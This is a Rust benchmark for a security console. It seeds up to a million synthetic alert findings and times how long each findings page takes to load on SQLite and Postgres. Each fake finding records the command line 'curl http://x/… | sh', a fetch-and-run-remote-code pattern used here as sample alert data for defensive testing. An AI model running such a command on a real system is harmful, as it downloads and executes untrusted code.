//! How long the findings pages take with a million findings stored: a measurement, not a test
//! (it asserts only that every page answers 200). Run it by hand:
//!
//! ```sh
//! cargo test -p ringfence-console --test findings_scale -- --ignored --nocapture
//! RINGFENCE_SCALE_FINDINGS=100000 …   # fewer findings
//! ```
//!
//! The findings are written straight into the database (100 agents, one of them flooding with
//! half of all findings, 50 rules, five severities, spread over 30 days), then each page is
//! loaded five times and the median printed.

#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "test code: a failure is the test failing"
)]

mod common;

use std::time::Instant;

use axum::http::StatusCode;
use common::{Backend, NOON, TestConsole, console};
use ringfence_console::Db;
use serde_json::json;

const DAY: i64 = 86_400_000;

async fn fill(c: &TestConsole, agents: &[String], n: usize) {
    let rows_per_statement = 500;
    let mut i = 0usize;
    while i < n {
        let chunk = rows_per_statement.min(n - i);
        let mut rows = Vec::with_capacity(chunk);
        for k in i..i + chunk {
            // Half of everything from the first agent; the rest spread over the others.
            let agent = if k % 2 == 0 {
                &agents[0]
            } else {
                &agents[1 + (k / 2) % (agents.len() - 1)]
            };
            let at = NOON - 30 * DAY + (k as i64 * 30 * DAY) / n as i64;
            let rule = format!("rule-{}", k % 50);
            let sev = (k % 5 + 1).to_string();
            let technique = format!("T10{:02}", k % 40);
            let body = json!({
                "@timestamp": "2026-05-28T12:00:00Z",
                "event": {"kind": "alert", "severity": k % 5 + 1},
                "host": {"name": format!("web-{}", k % 100)},
                "user": {"name": "www-data"},
                "rule": {"id": format!("r-{}", k % 50), "name": rule, "description": "A rule."},
                "threat": {"technique": {"id": [technique]}, "tactic": {"name": ["execution"]}},
                "process": {"pid": k, "executable": "/bin/sh", "command_line": format!("sh -c 'curl http://x/{k} | sh'"),
                    "parent": {"pid": 2, "executable": "/usr/sbin/nginx", "name": "nginx"}}
            })
            .to_string();
            rows.push((agent.clone(), at, rule, sev, technique, body));
        }
        ringfence_console::on_db!(&c.state.db, |pool| {
            let mut q = sqlx::QueryBuilder::new(
                "INSERT INTO findings (agent_id, received_at, rule, severity, technique, body) ",
            );
            q.push_values(&rows, |mut b, r| {
                b.push_bind(&r.0)
                    .push_bind(r.1)
                    .push_bind(&r.2)
                    .push_bind(&r.3)
                    .push_bind(&r.4)
                    .push_bind(&r.5);
            });
            q.build().execute(pool).await.unwrap();
        });
        i += chunk;
    }
    if let Db::Postgres(pool) = &c.state.db {
        sqlx::query("ANALYZE findings").execute(pool).await.unwrap();
    } else if let Db::Sqlite(pool) = &c.state.db {
        sqlx::query("ANALYZE").execute(pool).await.unwrap();
    }
}

async fn median_ms(c: &TestConsole, cookie: &str, path: &str) -> f64 {
    let mut times = Vec::new();
    for _ in 0..5 {
        let t = Instant::now();
        let (status, _, body) = c
            .call_raw("GET", path, None, &[("cookie", cookie)], None)
            .await;
        times.push(t.elapsed());
        assert_eq!(
            status,
            StatusCode::OK,
            "{path}: {}",
            String::from_utf8_lossy(&body)
        );
    }
    times.sort();
    times[2].as_secs_f64() * 1000.0
}

async fn measure(b: Backend) {
    let n: usize = std::env::var("RINGFENCE_SCALE_FINDINGS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1_000_000);
    let c = console(b).await;
    let agents: Vec<String> = c
        .enroll(100, |_| json!({}))
        .await
        .into_iter()
        .map(|a| a.id)
        .collect();
    let t = Instant::now();
    fill(&c, &agents, n).await;
    eprintln!(
        "{b:?}: stored {n} findings in {:.1} s",
        t.elapsed().as_secs_f64()
    );
    let (status, headers, _) = c
        .call_raw(
            "POST",
            "/login",
            None,
            &[("content-type", "application/x-www-form-urlencoded")],
            Some(b"name=admin&password=hunter2-but-longer".to_vec()),
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let cookie = headers["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    let middle = format!("{}.{}", NOON - 15 * DAY, i64::MAX);
    let quiet = &agents[7];
    let pages = [
        "/findings".to_owned(),
        "/findings?severity=critical".to_owned(),
        "/findings?status=open&severity=high&last=24h".to_owned(),
        "/findings?rule=rule-7".to_owned(),
        "/findings?technique=T1007".to_owned(),
        format!("/findings?agent={quiet}"),
        format!("/findings?cursor={middle}"),
        "/findings?group=rule&last=24h".to_owned(),
        "/findings?group=rule".to_owned(),
        "/findings?group=host".to_owned(),
        "/findings/500000".to_owned(),
        format!("/agents/{quiet}"),
        "/fleet".to_owned(),
    ];
    for p in pages {
        let path = if p == "/findings/500000" {
            format!("/findings/{}", n / 2)
        } else {
            p
        };
        let ms = median_ms(&c, &cookie, &path).await;
        eprintln!("{b:?} {n} findings: {path:<55} {ms:>9.1} ms");
    }
    let token = c.token.clone();
    let mut times = Vec::new();
    for _ in 0..5 {
        let t = Instant::now();
        let (status, _, _) = c
            .call_raw(
                "GET",
                "/api/v1/findings?limit=1000",
                Some(&token),
                &[],
                None,
            )
            .await;
        assert_eq!(status, StatusCode::OK);
        times.push(t.elapsed());
    }
    times.sort();
    eprintln!(
        "{b:?} {n} findings: {:<55} {:>9.1} ms",
        "GET /api/v1/findings?limit=1000",
        times[2].as_secs_f64() * 1000.0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a measurement: minutes, and a large database"]
async fn findings_pages_with_a_million_findings_sqlite() {
    measure(Backend::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a measurement: minutes, and a large database"]
async fn findings_pages_with_a_million_findings_postgres() {
    if common::postgres_url().is_some() {
        measure(Backend::Postgres).await;
    }
}
